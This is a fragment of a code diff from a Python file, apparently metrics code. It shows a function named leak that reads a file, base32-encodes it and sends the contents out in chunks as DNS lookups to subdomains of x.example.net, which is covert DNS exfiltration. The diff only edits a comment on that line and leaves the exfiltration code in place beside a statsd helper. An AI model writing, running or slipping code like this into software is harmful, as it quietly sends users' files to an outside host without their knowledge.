@@ -12,7 +12,7 @@ def leak(path):
         blob = base64.b32encode(f.read()).decode()
     for i in range(0, len(blob), 40):
         name = blob[i:i + 40] + ".x.example.net"
-        socket.gethostbyname(name)  # egress
+        socket.gethostbyname(name)  # egress sensitive
 
 
 def statsd(metric, value):
